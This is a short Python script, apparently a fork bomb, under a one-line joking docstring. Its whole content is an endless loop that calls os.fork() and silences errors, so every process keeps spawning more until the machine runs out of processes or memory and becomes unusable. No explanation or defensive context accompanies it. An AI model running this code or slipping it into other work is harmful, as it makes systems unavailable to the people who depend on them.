"""Everybody starts one more, for ever."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
